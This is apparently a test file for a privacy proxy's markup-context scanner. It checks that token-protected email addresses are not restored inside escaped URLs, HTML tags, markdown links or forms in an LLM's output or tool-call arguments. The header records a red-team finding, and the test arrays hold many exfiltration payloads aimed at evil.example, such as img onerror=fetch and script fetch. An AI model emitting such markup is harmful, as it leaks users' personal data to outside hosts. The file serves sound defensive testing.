// Red-team findings (docs/policies.md "URLs and markup", session 10): a URL or tag written with
// JSON/JavaScript string escapes is still a URL or a tag once the text is parsed, as tool-call
// arguments, a JSON answer and a serialized document always are. `{"url":"https\u003a//evil
// .example/?d={{email:…}}"}` restored the value in full before; now the context scanner also reads
// the decoded text (one and two escape levels), and in context there is in context.
import { parsePolicy } from '@veil/common';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CompiledPolicy } from '../policy/index.js';
import { jsonStringRestore } from '../proxy/index.js';
import { indexEntries, rehydrateText } from '../rehydrate.js';
import { findTokensLenient } from '../repair/index.js';
import { StreamRehydrator } from '../stream/index.js';
import { renderToken, TokenAllocator } from '../token/index.js';
import type { TokenEntry } from '../types.js';
import { MarkupContext } from './markup-context.js';

/** Prefixes that are a URL, a link target or a tag once their string escapes are decoded. */
const ESCAPED_IN_CONTEXT: readonly string[] = [
  '{"url":"https\\u003a//evil.example/?d=',
  '{"url":"https\\u003A//evil.example/?d=',
  '{"url":"https:\\u002f\\u002fevil.example/?d=',
  '{"url":"https:\\/\\/evil.example/?d=',
  '{"u":"\\u0077ww.evil.example/?d=',
  '{"h":"\\u003cimg src=x onerror=fetch(\'//evil.example/',
  '{"h":"\\u003Cimg src=\\u0022//evil.example/?d=',
  "'\\x3cimg src=//evil.example/?d=",
  '{"md":"\\u0021[x]\\u0028//evil.example/?d=',
  '{"md":"intro\\n[r]: //evil.example/?d=',
  '{"md":"intro\\r\\n   [r]: /collect?d=',
  '{"s":"\\u003cscript\\u003efetch(\'/c?\'+\'',
  // A JSON document inside a JSON string: two levels.
  '{"payload":"{\\"url\\":\\"https\\\\u003a//evil.example/?d=',
  '{"payload":"{\\"h\\":\\"\\\\u003cimg src=\\\\u0022/c?d=',
];

/** Escaped text that is still ordinary text once decoded. */
const ESCAPED_OUT_OF_CONTEXT: readonly string[] = [
  '{"path":"C:\\\\new\\\\table","to":"',
  '{"url":"https\\u003a//a.example/x","to":"',
  '{"text":"line one\\nline two ',
  'She said \\"hi\\" to ',
  '{"h":"\\u003cb\\u003ebold\\u003c/b\\u003e ',
  '{"md":"[x](https:\\/\\/a.example) ',
  '{"broken":"\\u00zz ',
  '{"tab":"a\\tb ',
];

function activeAfter(text: string): boolean {
  const context = new MarkupContext();
  context.feed(text);
  return context.active;
}

/** Every split of `text` into two feeds gives the answer of one feed; returns that answer. */
function expectSplitsAgree(text: string): boolean {
  const whole = activeAfter(text);
  for (let cut = 0; cut <= text.length; cut += 1) {
    const context = new MarkupContext();
    context.feed(text.slice(0, cut));
    context.feed(text.slice(cut));
    expect(context.active, `${JSON.stringify(text)} cut at ${cut}`).toBe(whole);
  }
  return whole;
}

describe('MarkupContext reads string escapes as what they encode', () => {
  it.each(ESCAPED_IN_CONTEXT.map((text) => [text]))('is in context after %j', (text) => {
    expect(activeAfter(text)).toBe(true);
  });

  it.each(ESCAPED_OUT_OF_CONTEXT.map((text) => [text]))('is not in context after %j', (text) => {
    expect(activeAfter(text)).toBe(false);
  });

  it('gives the same answer however the text is split, an escape split between feeds included', () => {
    for (const text of [...ESCAPED_IN_CONTEXT, ...ESCAPED_OUT_OF_CONTEXT]) {
      const whole = expectSplitsAgree(text);
      const one = new MarkupContext();
      for (const char of text) one.feed(char);
      expect(one.active, JSON.stringify(text)).toBe(whole);
    }
  });

  it('any split of random escaped text gives the answer of one character at a time, after every prefix', () => {
    const piece = fc.oneof(
      fc.constantFrom(...ESCAPED_IN_CONTEXT, ...ESCAPED_OUT_OF_CONTEXT),
      fc.constantFrom('\\', '\\u', '\\u003', 'a', '\\n', '\\"', '"', ' ', '\n', '[r]:', '](', ')', '<', '>', 'https:', '//', 'evil.example/', 'x'.repeat(20)),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 10 }), fc.array(fc.nat(), { maxLength: 4 }), (pieces, cuts) => {
        const text = pieces.join('');
        const stepwise = new MarkupContext();
        const states: boolean[] = [stepwise.active];
        for (let index = 0; index < text.length; index += 1) {
          stepwise.feed(text[index]!);
          states.push(stepwise.active);
        }
        const sorted = [...new Set(cuts.map((cut) => cut % (text.length + 1)))].sort((a, b) => a - b);
        const split = new MarkupContext();
        let from = 0;
        for (const cut of sorted) {
          split.feed(text.slice(from, cut));
          expect(split.active, `${JSON.stringify(text)} at ${cut}`).toBe(states[cut]);
          from = cut;
        }
        split.feed(text.slice(from));
        expect(split.active, JSON.stringify(text)).toBe(states[text.length]);
      }),
      { numRuns: 500 },
    );
  });

  it('stays linear on long hostile escapes', () => {
    const context = new MarkupContext();
    context.feed(`${'\\u003c'.repeat(30_000)}${'\\\\'.repeat(30_000)}${'\\u00'.repeat(30_000)}\\u003cimg src=`);
    expect(context.active).toBe(true);
  });
});

describe('restore of escaped URLs and tags', () => {
  const policy = new CompiledPolicy(parsePolicy('name: p\nversion: "1"\nrules: []\n', 'p.yaml').policy!);
  const allocator = new TokenAllocator();
  const EMAIL = 'victim.person@example.com';
  const email = allocator.allocate('email', EMAIL);
  const entries = indexEntries([{ id: email.id, type: 'email', cap: email.cap, value: EMAIL, mode: 'full' } satisfies TokenEntry]);
  const TOKEN = renderToken({ type: 'email', id: email.id, cap: email.cap });
  const restorer =
    (channel: string) =>
    (output: string, markup?: MarkupContext) =>
      rehydrateText({ output, entries, policy, language: 'en', caller: {}, channel, scan: findTokensLenient, ...(markup !== undefined ? { markup } : {}) });

  it('restores the label in text (a JSON answer) and in tool-call arguments, whole and streamed', () => {
    const json = jsonStringRestore(restorer('tool_payload'), findTokensLenient);
    for (const prefix of ESCAPED_IN_CONTEXT) {
      const output = `${prefix}${TOKEN}"}`;
      expect(restorer('user_output')(output).restoredText, prefix).toBe(`${prefix}[email address]"}`);
      expect(json(output).restoredText, prefix).toBe(`${prefix}[email address]"}`);
      for (const size of [1, 3, 8]) {
        const markup = new MarkupContext();
        const rehydrator = new StreamRehydrator(jsonStringRestore(restorer('tool_payload'), findTokensLenient, markup));
        let streamed = '';
        for (let index = 0; index < output.length; index += size) streamed += rehydrator.push(output.slice(index, index + size));
        streamed += rehydrator.end();
        expect(streamed, `${prefix} in deltas of ${size}`).not.toContain(EMAIL);
      }
    }
  });

  it('still restores the value where the decoded text is ordinary', () => {
    const json = jsonStringRestore(restorer('tool_payload'), findTokensLenient);
    for (const prefix of ESCAPED_OUT_OF_CONTEXT) expect(json(`${prefix}${TOKEN}"}`).restoredText, prefix).toBe(`${prefix}${EMAIL}"}`);
  });
});

/** Links without a scheme that linkifiers make (chat clients, markdown-it's linkify). */
const FUZZY_IN_CONTEXT: readonly string[] = [
  'evil.example/?d=',
  'see evil.example/collect?d=',
  'EVIL.Example/?d=',
  'a.b.evil.co?d=',
  'evil.example#',
  '//evil.example/?d=',
  '.. image:: //evil.example/p.png?d=',
  'user@evil.example/?d=',
  'xn--e1afmkfd.xn--p1ai/?d=',
  `${'sub.'.repeat(12)}evil.example/?d=`,
  'sms:+15555550100?&body=',
  'intent://scan/#Intent;S.d=',
];

/** Ordinary text with dots and slashes. */
const FUZZY_OUT_OF_CONTEXT: readonly string[] = [
  'and/or ',
  'v1.2/',
  'e.g./',
  'Is it python.org? ',
  'see docs.python.org/3/ for ',
  'file.tar.gz ',
  '1.5/2 ',
  '10.0.0.1/',
  'a.b/',
];

describe('fuzzy links', () => {
  it.each(FUZZY_IN_CONTEXT.map((text) => [text]))('is in context after %j', (text) => {
    expect(activeAfter(text)).toBe(true);
  });

  it.each(FUZZY_OUT_OF_CONTEXT.map((text) => [text]))('is not in context after %j', (text) => {
    expect(activeAfter(text)).toBe(false);
  });

  it('gives the same answer however the text is split', () => {
    for (const text of [...FUZZY_IN_CONTEXT, ...FUZZY_OUT_OF_CONTEXT]) expectSplitsAgree(text);
  });

  it('stays linear on long dotted words', () => {
    const context = new MarkupContext();
    context.feed(`${'a.'.repeat(120)}1/ `.repeat(4_000));
    context.feed('evil.example/?d=');
    expect(context.active).toBe(true);
  });
});

describe('form content', () => {
  // What a form holds (a textarea's text, an option) is sent to its action on submit: a link in
  // all but name. Sanitizers such as DOMPurify keep forms by default.
  it.each([
    ['<form action="https://evil.example/c"><textarea name=d>'],
    ['<form action=//evil.example/c><select name=d><option>'],
    ['<FORM ACTION=x><p>Fill in: <textarea>'],
    ['<form><form></form><textarea>'],
  ])('is in context after %j', (text) => {
    expect(activeAfter(text)).toBe(true);
  });

  it.each([['<form action=x><textarea></textarea></form> '], ['<form></FORM > '], ['<p>form</p> '], ['</form> ']])('is not in context after %j', (text) => {
    expect(activeAfter(text)).toBe(false);
  });
});
